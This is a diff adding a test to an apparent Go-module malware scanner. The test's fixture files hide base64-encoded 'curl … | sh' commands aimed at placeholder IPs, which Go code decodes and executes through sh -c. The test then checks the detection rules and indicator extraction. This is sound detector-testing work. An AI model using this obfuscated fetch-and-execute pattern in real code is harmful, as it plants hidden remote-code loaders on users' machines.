@@ -134,3 +134,31 @@ test('fileRole tells test, testdata, vendor and never-built files apart', () => 
   assert.equal(fileRole('vendor/github.com/x/a.go'), 'vendor');
   assert.equal(fileRole('_old/a.go'), 'not-built');
 });
+
+test('code that never builds into a dependent gets no recovery runs: not for rules, not for IOCs', async () => {
+  // The same decoded curl|sh, run through a local, in a source file and in a test file.
+  const body = (name: string, b64: string) =>
+    `func ${name}() {\n\tb, _ := base64.StdEncoding.DecodeString("${b64}")\n\tc := string(b)\n\texec.Command("sh", "-c", c).Run()\n}\n`;
+  const header = 'package m\n\nimport (\n\t"encoding/base64"\n\t"os/exec"\n)\n\n';
+  const dir = makeModule({
+    'go.mod': 'module example.test/m\n',
+    'run.go': header + body('Run', 'Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUveCB8IHNo'),
+    'run_test.go': header + body('runInTest', 'Y3VybCBodHRwOi8vMjAzLjAuMTEzLjYveCB8IHNo'),
+  });
+  try {
+    const result = await scanModule(dir, { rules: loadRules([join(root, 'rules')]), workers: 0 });
+    const rulesIn = (file: string) => result.findings.filter((f) => f.file === file).map((f) => f.ruleId);
+    // The command the exec runs is a local: known from a run of Run, unknown in the test file.
+    assert.ok(rulesIn('run.go').includes('exec-download-ip-pipe-shell'), JSON.stringify(result.findings));
+    assert.ok(!rulesIn('run_test.go').includes('exec-download-ip-pipe-shell'), JSON.stringify(result.findings));
+    // A decode of a literal needs no run: still recovered there, and the test file still scanned.
+    assert.ok(rulesIn('run_test.go').includes('obfuscation-decoded-command-or-url'), JSON.stringify(result.findings));
+    assert.ok(rulesIn('run_test.go').includes('exec-shell-dash-c'));
+    assert.ok(result.recoveredStrings.some((r) => r.file === 'run.go' && r.value.includes('203.0.113.5')));
+    assert.ok(!result.recoveredStrings.some((r) => r.file === 'run_test.go'), JSON.stringify(result.recoveredStrings));
+    // What a rule recovered is an indicator wherever it was found.
+    assert.ok(result.iocs.ips.includes('203.0.113.5') && result.iocs.ips.includes('203.0.113.6'), JSON.stringify(result.iocs));
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
